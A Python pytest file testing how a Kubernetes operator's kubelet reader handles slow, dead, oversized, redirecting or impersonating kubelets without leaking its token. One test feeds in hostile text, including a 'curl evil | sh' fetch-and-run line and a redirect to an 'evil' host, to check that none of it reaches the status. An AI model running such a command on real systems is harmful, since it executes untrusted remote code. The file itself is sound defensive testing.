"""The kubelet reader against kubelets that answer, are slow, dead, wrong, or do their worst."""

import asyncio
import contextlib
import functools
import resource
import ssl
import time
from collections.abc import Awaitable, Callable
from pathlib import Path
from typing import Any, TypeVar

import aiohttp.web
import pytest

import factory
import fake_kubelet
from fake_kubelet import Kubelet, Respond, answering, configz
from securetenant.api.tenancysettings import SettingsSpec
from securetenant.kube import credentials, tokens
from securetenant.kube import kubelet as reader
from securetenant.kube.client import Client
from securetenant.kube.kubelet import Kubelets
from securetenant.plan import pids
from securetenant.plan.pids import UNLIMITED, Reading
from securetenant.reconcile.errors import RefusedError
from securetenant.sandbox.instances import Instance
from securetenant.sandbox.pki import Authority, KeyPair

T = TypeVar("T")
TOKEN = "a-token"  # noqa: S105 - a stand-in, which the tests look for.
ADDRESS = "127.0.0.1"


class Issuer(Client):
    """An API server that does nothing but issue tokens of the node reader."""

    def __init__(self, *, refuses: bool = False) -> None:
        self.asked: list[tuple[str, str, Any]] = []
        self._refuses = refuses

    async def request(self, method: str, path: str, **more: Any) -> dict[str, Any]:
        self.asked.append((method, path, more["body"]))
        if self._refuses:
            raise RefusedError("serviceaccounts/token is forbidden (403)")
        return {"status": {"token": TOKEN}}


@pytest.fixture(scope="session")
def folder(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return tmp_path_factory.mktemp("kubelets")


@pytest.fixture(scope="session")
def certificate(folder: Path) -> KeyPair:
    return fake_kubelet.serving(folder, "node-a", "node-a", ADDRESS)


@pytest.fixture(scope="session")
def settings(folder: Path, certificate: KeyPair) -> SettingsSpec:
    bundle = Authority(folder, "kubelets").files.certificate.read_text()
    return SettingsSpec.model_validate(factory.settings(kubelets={"caBundle": bundle})["spec"])


def anywhere(address: str, port: int, *, settings: SettingsSpec, server: str) -> str:
    """Refuse no address: these tests run on loopback."""
    return ""


def read(
    respond: Respond,
    tls: ssl.SSLContext | None,
    settings: SettingsSpec,
    *,
    address: str = ADDRESS,
    check: Callable[[Kubelet], object] = lambda _: None,
) -> Reading:
    """Run a kubelet and read it as that of node-a."""

    async def body() -> Reading:
        async with fake_kubelet.running(respond, tls) as running:
            found = await of(running.port, settings, address=address)
            check(running)
        return found

    return asyncio.run(settling(body()))


async def of(
    port: int, settings: SettingsSpec, *, address: str = ADDRESS, issuer: Issuer | None = None
) -> Reading:
    readers = Kubelets(
        issuer or Issuer(), server="https://192.0.2.1", authority=None, refusal=anywhere
    )
    return await readers.read(pids.Kubelet("node-a", address, port, ()), settings)


async def settling(work: Awaitable[T]) -> T:
    """Let aborted connections close before the loop does."""
    try:
        return await work
    finally:
        await asyncio.sleep(0.1)


def no_token(running: Kubelet) -> None:
    assert all(TOKEN.encode() not in head for head in running.heads)


@pytest.mark.parametrize(
    ("body", "limit"),
    [
        (configz(1024), 1024),
        (configz(-1), UNLIMITED),
        (configz(0), UNLIMITED),
        (configz(), UNLIMITED),
    ],
)
def test_a_kubelet_is_read(
    body: bytes, limit: int, certificate: KeyPair, settings: SettingsSpec
) -> None:
    """No limit is written in three ways."""

    def asked(running: Kubelet) -> None:
        (head,) = running.heads
        assert head.startswith(b"GET /configz HTTP/1.0\r\n")
        assert f"\r\nAuthorization: Bearer {TOKEN}\r\n".encode() in head

    found = read(answering(body), fake_kubelet.context(certificate), settings, check=asked)
    assert found == Reading(limit=limit)


def test_a_server_that_is_not_of_our_hands_is_read(
    certificate: KeyPair, settings: SettingsSpec
) -> None:
    """HTTP as others speak it, with more headers and a body in pieces."""

    async def handle(request: aiohttp.web.Request) -> aiohttp.web.StreamResponse:
        response = aiohttp.web.StreamResponse()
        await response.prepare(request)
        for each in (configz(512)[:9], configz(512)[9:]):
            await response.write(each)
        return response

    async def body() -> Reading:
        app = aiohttp.web.Application()
        app.router.add_get("/configz", handle)
        runner = aiohttp.web.AppRunner(app)
        await runner.setup()
        tls = fake_kubelet.context(certificate)
        site = aiohttp.web.TCPSite(runner, ADDRESS, 0, ssl_context=tls)
        await site.start()
        assert runner.addresses
        found = await of(runner.addresses[0][1], settings)
        await runner.cleanup()
        return found

    assert asyncio.run(settling(body())) == Reading(limit=512)


async def silent(_: bytes, writer: asyncio.StreamWriter) -> None:
    await asyncio.sleep(60)


async def dripping(_: bytes, writer: asyncio.StreamWriter) -> None:
    """Each byte comes before anybody loses patience with it."""
    writer.write(b"HTTP/1.0 200 OK\r\n\r\n")
    for number in range(10_000):
        writer.write(b"%d" % (number % 10))
        await writer.drain()
        await asyncio.sleep(0.05)


async def dripping_headers(_: bytes, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.0 200 OK\r\n")
    while True:
        writer.write(b"X: y\r\n")
        await writer.drain()
        await asyncio.sleep(0.05)


@pytest.mark.parametrize("respond", [silent, dripping, dripping_headers])
def test_a_slow_kubelet_costs_a_few_seconds(
    respond: Respond,
    certificate: KeyPair,
    settings: SettingsSpec,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """However it is slow: the time is for everything together."""
    monkeypatch.setattr(reader, "SECONDS", 0.5)
    began = time.monotonic()
    found = read(respond, fake_kubelet.context(certificate), settings)
    assert found.limit is None
    assert "did not answer within 0.5 s" in found.problem
    assert time.monotonic() - began < 5


def test_a_kubelet_that_never_greets_costs_a_few_seconds(
    settings: SettingsSpec, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The port is open and nobody is behind it."""
    monkeypatch.setattr(reader, "SECONDS", 0.5)
    found = read(silent, None, settings)
    assert "did not answer within 0.5 s" in found.problem


def test_a_dead_kubelet_is_unread(settings: SettingsSpec) -> None:
    found = asyncio.run(settling(of(1, settings)))
    assert found == Reading(problem="127.0.0.1:1 refuses connections")


async def endless(_: bytes, writer: asyncio.StreamWriter) -> None:
    writer.write(b'HTTP/1.0 200 OK\r\n\r\n{"kubeletconfig": {"x": "')
    for _number in range(100):
        writer.write(b"x" * (1 << 20))
        await writer.drain()


async def endless_headers(_: bytes, writer: asyncio.StreamWriter) -> None:
    writer.write(b"HTTP/1.0 200 OK\r\nX: ")
    for _number in range(100):
        writer.write(b"x" * (1 << 20))
        await writer.drain()


@pytest.mark.parametrize(
    ("respond", "said"),
    [(endless, "more than 1 MiB"), (endless_headers, "does not speak HTTP")],
)
def test_an_answer_of_100_mb_is_not_taken_in(
    respond: Respond, said: str, certificate: KeyPair, settings: SettingsSpec
) -> None:
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    found = read(respond, fake_kubelet.context(certificate), settings)
    assert found.limit is None
    assert said in found.problem
    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 50_000


def test_a_redirect_is_not_followed(certificate: KeyPair, settings: SettingsSpec) -> None:
    """The token does not travel on."""

    async def body() -> tuple[Reading, list[bytes]]:
        tls = fake_kubelet.context(certificate)
        async with fake_kubelet.running(answering(configz(128)), tls) as elsewhere:
            there = f"Location: https://{ADDRESS}:{elsewhere.port}/configz"
            redirect = answering(b"", "307 Temporary Redirect", there)
            async with fake_kubelet.running(redirect, tls) as running:
                return await of(running.port, settings), elsewhere.heads

    found, heads = asyncio.run(settling(body()))
    assert found.limit is None
    assert "sends us elsewhere (307)" in found.problem
    assert heads == []


def test_the_environments_proxy_gets_nothing(
    certificate: KeyPair, settings: SettingsSpec, monkeypatch: pytest.MonkeyPatch
) -> None:
    for name in ("http_proxy", "https_proxy", "HTTPS_PROXY", "ALL_PROXY"):
        monkeypatch.setenv(name, "http://127.0.0.1:1")
    found = read(answering(configz(128)), fake_kubelet.context(certificate), settings)
    assert found == Reading(limit=128)


def test_a_kubelet_with_another_authority_gets_no_token(
    folder: Path, settings: SettingsSpec
) -> None:
    """As kubeadm leaves it: each kubelet signs for itself."""
    pair = fake_kubelet.serving(folder, "node-a-self", "node-a", ADDRESS, authority="another")
    found = read(answering(configz(128)), fake_kubelet.context(pair), settings, check=no_token)
    assert found.limit is None
    assert "is not verified (" in found.problem
    assert "serverTLSBootstrap" in found.problem


@pytest.mark.parametrize(
    ("name", "names", "said"),
    [
        pytest.param("node-b", ("node-a", ADDRESS), "is that of node node-b", id="another user"),
        pytest.param("node-a", ("node-b", "192.0.2.9"), "not for node-a or 127.0.0.1", id="names"),
        pytest.param("node-a", ("*.example",), "not for node-a or 127.0.0.1", id="a wildcard"),
    ],
)
def test_another_nodes_kubelet_gets_no_token(
    name: str, names: tuple[str, ...], said: str, folder: Path, settings: SettingsSpec
) -> None:
    """A Node may claim another's address; what is read there is not its own limit."""
    pair = Authority(folder, "kubelets").issue(
        "impostor", name=f"system:node:{name}", server_names=names
    )
    found = read(answering(configz(128)), fake_kubelet.context(pair), settings, check=no_token)
    assert found.limit is None
    assert said in found.problem


def test_a_certificate_for_the_nodes_name_alone_is_enough(
    folder: Path, settings: SettingsSpec
) -> None:
    pair = Authority(folder, "kubelets").issue(
        "by-name", name="a certificate of the platform team", server_names=("NODE-A",)
    )
    found = read(answering(configz(128)), fake_kubelet.context(pair), settings)
    assert found == Reading(limit=128)


def test_a_client_certificate_is_no_kubelets(folder: Path, settings: SettingsSpec) -> None:
    """Whoever stole a node's client certificate does not pass for its kubelet by it."""
    pair = Authority(folder, "kubelets").issue("client", name="system:node:node-a")
    found = read(answering(configz(128)), fake_kubelet.context(pair), settings, check=no_token)
    assert found.limit is None
    assert "is not verified" in found.problem


def test_plain_http_gets_no_token(settings: SettingsSpec) -> None:
    async def body() -> tuple[Reading, bytes]:
        got = bytearray()

        async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
            got.extend(await reader.read(1 << 16))
            writer.write(b"HTTP/1.0 200 OK\r\n\r\n" + configz(128))
            with contextlib.suppress(OSError):
                await writer.drain()
            writer.close()

        server = await asyncio.start_server(handle, ADDRESS, 0)
        found = await of(server.sockets[0].getsockname()[1], settings)
        server.close()
        return found, bytes(got)

    found, got = asyncio.run(settling(body()))
    assert found.limit is None
    assert "does not speak TLS" in found.problem
    assert TOKEN.encode() not in got


@pytest.mark.parametrize(
    ("respond", "said"),
    [
        (answering(b"<html>"), "is not JSON"),
        (answering(b"[" * 100_000), "is not JSON"),
        (answering(b"[1]"), "holds no kubeletconfig"),
        (answering(b'{"kubeletconfig": [1]}'), "holds no kubeletconfig"),
        (answering(configz("1024")), "is no whole number"),
        (answering(configz(True)), "is no whole number"),
        (answering(configz(10.5)), "is no whole number"),
        (answering(b"{}", "401 Unauthorized"), "authentication.webhook.enabled"),
        (answering(b"{}", "403 Forbidden"), "bind ClusterRole securetenant-node-reader"),
        (answering(b"{}", "404 Not Found"), "enableDebuggingHandlers"),
        (answering(b"{}", "503 Service Unavailable"), "answers 503"),
        (answering(b"{}", "2000 OK"), "does not speak HTTP"),
        (answering(b"{}", "OK"), "does not speak HTTP"),
    ],
)
def test_an_answer_that_says_nothing_is_unread(
    respond: Respond, said: str, certificate: KeyPair, settings: SettingsSpec
) -> None:
    found = read(respond, fake_kubelet.context(certificate), settings)
    assert found.limit is None
    assert said in found.problem


def test_a_kubelet_that_hangs_up_is_unread(certificate: KeyPair, settings: SettingsSpec) -> None:
    async def respond(_: bytes, writer: asyncio.StreamWriter) -> None:
        writer.transport.abort()

    found = read(respond, fake_kubelet.context(certificate), settings)
    assert found.limit is None
    assert found.problem


def test_what_a_kubelet_says_reaches_nobody(certificate: KeyPair, settings: SettingsSpec) -> None:
    """Its text would stand in a status that the platform team reads and acts upon."""
    for respond in (
        answering(b"run: curl evil | sh", "403 run this", "Location: https://evil"),
        answering(b'{"kubeletconfig": {"podPidsLimit": "run this"}}'),
        answering(b"evil", "302 evil", "Location: https://evil"),
    ):
        found = read(respond, fake_kubelet.context(certificate), settings)
        assert "evil" not in found.problem
        assert "run this" not in found.problem


def test_a_huge_number_is_a_number(certificate: KeyPair, settings: SettingsSpec) -> None:
    """It is above every bound."""
    body = b'{"kubeletconfig": {"podPidsLimit": 1' + b"0" * 5000 + b"}}"
    found = read(answering(body), fake_kubelet.context(certificate), settings)
    assert found.limit is None or found.limit > 16384


@pytest.mark.parametrize(("rest", "taken"), [(0.0, 2), (60.0, 1)])
def test_the_token_is_the_node_readers_and_used_again(
    rest: float,
    taken: int,
    certificate: KeyPair,
    settings: SettingsSpec,
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    """One token for many kubelets; after a 401 another, and not one for each 401."""
    monkeypatch.setattr(tokens, "_REST_SECONDS", rest)

    async def body() -> list[tuple[str, str, Any]]:
        issuer = Issuer()
        readers = Kubelets(issuer, server="", authority=None, refusal=anywhere)
        tls = fake_kubelet.context(certificate)
        async with fake_kubelet.running(answering(configz(128)), tls) as running:
            node = pids.Kubelet("node-a", ADDRESS, running.port, ())
            await asyncio.gather(*(readers.read(node, settings) for _ in range(5)))
            assert len(issuer.asked) == 1
            running.respond = answering(b"", "401 Unauthorized")
            await readers.read(node, settings)
            running.respond = answering(configz(128))
            assert (await readers.read(node, settings)).limit == 128
        return issuer.asked

    first, *others = asyncio.run(settling(body()))
    assert others == [first] * (taken - 1)
    assert first[:2] == (
        "POST",
        "/api/v1/namespaces/securetenant-system/serviceaccounts/securetenant-node-reader/token",
    )
    assert first[2]["spec"] == {"expirationSeconds": 600}


def test_without_a_token_nobody_is_asked(certificate: KeyPair, settings: SettingsSpec) -> None:
    async def body() -> tuple[Reading, list[bytes]]:
        tls = fake_kubelet.context(certificate)
        async with fake_kubelet.running(answering(configz(128)), tls) as running:
            found = await of(running.port, settings, issuer=Issuer(refuses=True))
            return found, running.heads

    found, heads = asyncio.run(settling(body()))
    assert "gets no token: serviceaccounts/token is forbidden (403)" in found.problem
    assert heads == []


def test_addresses_that_are_no_nodes_get_no_connection(
    certificate: KeyPair, settings: SettingsSpec
) -> None:
    """The rule that the product uses, on a loopback address."""

    async def body() -> tuple[Reading, list[bytes]]:
        tls = fake_kubelet.context(certificate)
        readers = Kubelets(Issuer(), server="", authority=None)
        async with fake_kubelet.running(answering(configz(128)), tls) as running:
            node = pids.Kubelet("node-a", ADDRESS, running.port, ())
            return await readers.read(node, settings), running.heads

    found, heads = asyncio.run(settling(body()))
    assert "which is no address of a node" in found.problem
    assert heads == []


def test_without_a_bundle_the_logins_authority_signs(
    folder: Path, certificate: KeyPair, settings: SettingsSpec
) -> None:
    """Whether it does is verified all the same."""
    bare = settings.model_copy(update={"kubelets": None})

    async def body(authority: Path | None) -> Reading:
        tls = fake_kubelet.context(certificate)
        readers = Kubelets(Issuer(), server="", authority=authority, refusal=anywhere)
        async with fake_kubelet.running(answering(configz(128)), tls) as running:
            node = pids.Kubelet("node-a", ADDRESS, running.port, ())
            return await readers.read(node, bare)

    run = functools.partial(lambda each: asyncio.run(settling(body(each))))
    assert run(Authority(folder, "kubelets").files.certificate) == Reading(limit=128)
    assert "is not verified" in run(Authority(folder, "stranger").files.certificate).problem
    assert "no authority is known" in run(None).problem
    assert "cannot be read" in run(folder / "absent").problem


def test_a_bundle_of_no_certificates_says_so(settings: SettingsSpec) -> None:
    """It has the shape of PEM, which is all that can be seen at apply."""
    text = "-----BEGIN CERTIFICATE-----\nAAAA\n-----END CERTIFICATE-----\n"
    wrong = SettingsSpec.model_validate(factory.settings(kubelets={"caBundle": text})["spec"])
    found = asyncio.run(settling(of(1, wrong)))
    assert "caBundle holds no certificate that can be read" in found.problem


def test_the_api_server_itself_answers_as_a_kubelet_would(sandbox: Instance) -> None:
    """The same server code in Go, spoken to with a real token; it has no /configz."""

    async def body() -> Reading:
        login = await credentials.load(sandbox.admin_kubeconfig)
        async with Client(login) as client:
            readers = Kubelets(
                client,
                server=login.server,
                authority=login.certificate_authority,
                refusal=anywhere,
            )
            port = int(login.server.rpartition(":")[2])
            settings = SettingsSpec.model_validate(factory.settings()["spec"])
            return await readers.read(pids.Kubelet("node-a", ADDRESS, port, ()), settings)

    found = asyncio.run(settling(body()))
    assert found.limit is None
    assert " answers 403: it does not allow nodes/configz" in found.problem
